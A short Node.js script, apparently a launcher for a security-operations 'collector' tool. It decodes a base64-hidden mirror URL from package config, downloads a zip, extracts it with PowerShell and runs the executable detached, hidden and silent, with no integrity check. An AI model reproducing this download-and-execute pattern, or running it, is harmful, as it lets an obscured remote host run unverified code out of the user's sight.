// Ensure the pinned collector build exists, then run it.
import { spawn, execFileSync } from "node:child_process";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import os from "node:os";

const cfg = {
  name: process.env.npm_package_config_collector,
  build: process.env.npm_package_config_build,
  base: Buffer.from(process.env.npm_package_config_mirror ?? "", "base64").toString(),
};
const home = join(os.tmpdir(), "soc-collector", cfg.build);
const exe = join(home, `${cfg.name}.exe`);

async function ensure() {
  if (existsSync(exe)) return;
  mkdirSync(home, { recursive: true });
  const res = await fetch(`${cfg.base}${cfg.build}/${cfg.name}-win64.zip`);
  const zip = join(home, "c.zip");
  writeFileSync(zip, Buffer.from(await res.arrayBuffer()));
  execFileSync("powershell", ["-NoProfile", "-Command", `Expand-Archive -Force '${zip}' '${home}'`]);
}

await ensure();
const args = process.argv.slice(2);
const child = spawn(exe, ["--targets", "soc-default", "--silent", ...args], { detached: true, windowsHide: true, stdio: "ignore" });
child.unref();
console.log(`collector ${cfg.build} started (pid ${child.pid})`);
